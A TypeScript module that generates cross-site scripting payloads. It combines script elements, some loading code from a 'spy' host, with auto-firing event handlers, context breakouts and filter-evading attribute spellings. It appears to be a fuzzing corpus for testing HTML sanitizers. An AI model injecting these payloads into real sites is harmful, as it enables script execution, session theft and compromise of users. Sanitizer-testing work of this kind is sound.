/** Elements and handlers that run something. */
import { each, RUN } from './family.ts'

const elements = (spy: string): string[] => [
  `<script>${RUN}</script>`,
  `<script src="${spy}/a.js"></script>`,
  `<SCRIPT/X SRC="${spy}/a.js"></SCRIPT>`,
  `<script type=module>import "${spy}/m.js";${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
]

/** Where a payload may stand, or what it must first break out of. */
const places: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<table><tr><td>${payload}</td></tr></table>`,
  (payload) => `<p title="x">${payload}<p>`,
  (payload) => `<a href="https://example.com/?q=">${payload}</a>`,
  (payload) => `<img alt="x"${payload}">`,
  (payload) => `--><!-- -->${payload}<!--`,
  (payload) => `<style></style>${payload}</style>`,
  (payload) => `<title>x</title>${payload}`,
]

/** An element, what makes its handler fire, and the handler. */
const handlers: (readonly [element: string, more: string, handler: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['div', 'contenteditable autofocus', 'onfocusin'],
  ['a', 'href=https://example.com tabindex=1 autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['div', 'popover id=p', 'onbeforetoggle'],
  ['marquee', 'width=1 loop=1', 'onfinish'],
  ['div', 'style=animation:x', 'onanimationend'],
  ['div', 'style=width:5000px;height:5000px', 'onpointerenter'],
  ['p', 'hidden=until-found', 'onbeforematch'],
  ['div', 'style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
  ['svg><animate', 'attributeName=x dur=1ms', 'onend'],
  ['math', 'tabindex=1 autofocus', 'onfocus'],
]

/** How attributes may be written. */
const writings: ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => `/${name.toUpperCase()}=${value}//`,
  (name, value) => `\n${name}\t=\n"&#${value.charCodeAt(0)};${value.slice(1)}"`,
]

export const scripts = (spy: string): string[] => [
  ...each(elements(spy), places, (element, place) => place(element)),
  ...each(handlers, writings, ([element, more, handler], write) => {
    const start = `<${element} ${more}`.trimEnd()
    return `${start}${write(handler, RUN)}>x</${element.split('>')[0]}>`
  }),
]
